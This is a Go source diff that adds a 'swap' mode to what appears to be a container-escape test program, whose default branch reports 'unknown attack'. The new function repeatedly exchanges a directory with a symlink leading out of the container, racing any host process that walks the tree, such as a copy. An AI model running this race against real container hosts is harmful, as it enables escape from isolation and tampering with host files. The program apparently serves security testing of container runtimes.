@@ -41,6 +41,8 @@ func main() {
 			err := unix.Mount("", p, "", unix.MS_REMOUNT|unix.MS_BIND, "")
 			fmt.Println("remount", p, errno(err))
 		}
+	case "swap":
+		swap(os.Args[2], os.Args[3])
 	default:
 		fmt.Fprintln(os.Stderr, "unknown attack", os.Args[1])
 		os.Exit(2)
@@ -168,4 +170,23 @@ func write(path, data string) {
 		f.Close()
 	}
 	fmt.Println("write", path, errno(err))
+}
+
+// swap exchanges a and b (a directory and a symlink out of the container)
+// in a loop, so that whoever walks the tree from outside meets the symlink
+// where it saw the directory a moment before.
+func swap(a, b string) {
+	for i := 0; ; i++ {
+		err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE)
+		if err == unix.ENOENT {
+			continue // the other side is being replaced (a cp into it)
+		}
+		if err != nil {
+			fmt.Println("swap", errno(err))
+			os.Exit(1)
+		}
+		if i == 0 {
+			fmt.Println("swapping")
+		}
+	}
 }
